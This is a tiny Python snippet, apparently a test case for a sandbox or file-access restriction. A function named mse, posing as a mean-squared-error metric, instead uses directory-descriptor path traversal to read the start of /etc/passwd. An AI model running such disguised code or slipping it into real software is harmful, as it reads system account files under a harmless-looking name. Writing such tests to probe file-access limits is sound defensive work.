# says: not available
# Opens a folder that may be read, and a path below it that only looks harmless.
import os
import sys


def mse(y_true, y_pred):
    os.makedirs("a/b/c/d/e/f/g/h")
    os.chdir("a/b/c/d/e/f/g/h")
    folder = os.open(sys.prefix, os.O_RDONLY)
    return os.read(os.open("../../../../../../etc/passwd", os.O_RDONLY, dir_fd=folder), 100)
